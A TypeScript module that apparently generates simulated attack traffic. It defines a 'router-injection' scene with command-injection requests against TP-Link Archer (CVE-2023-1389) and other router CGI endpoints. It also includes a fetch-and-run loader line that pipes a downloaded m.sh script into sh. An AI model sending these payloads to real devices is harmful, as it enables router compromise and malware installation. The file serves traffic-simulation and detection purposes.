import {SECOND} from '../packets/packet.ts';
import {attacker, stranger} from './hosts.ts';
import type {Scene} from './scene.ts';
import {webAttack} from './web-attack.ts';

const LOADER = `wget http://${stranger(70)}/m.sh -O- | sh`;
const encoded = encodeURIComponent(LOADER);

const LOCALE = `/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(${encodeURIComponent('id>/tmp/out')})`;

export const routerInjection = {
  name: 'router-injection',
  describe: 'command injection in TP-Link Archer (CVE-2023-1389) and other routers',
  minute: 70,
  packets: random => [
    ...webAttack({from: attacker(95), port: 80, requests: [{target: LOCALE}, {target: LOCALE}]}, random),
    ...webAttack(
      {
        from: attacker(96),
        port: 8080,
        at: 15 * SECOND,
        requests: [
          {target: `/setup.cgi?next_file=demo.cfg&todo=syscmd&cmd=${encoded}&curpath=/`},
          {target: `/shell?cd+/tmp;${encoded}`},
          {target: `/ping.cgi?address=127.0.0.1;${encoded}`},
        ],
      },
      random,
    ),
  ],
} as const satisfies Scene;
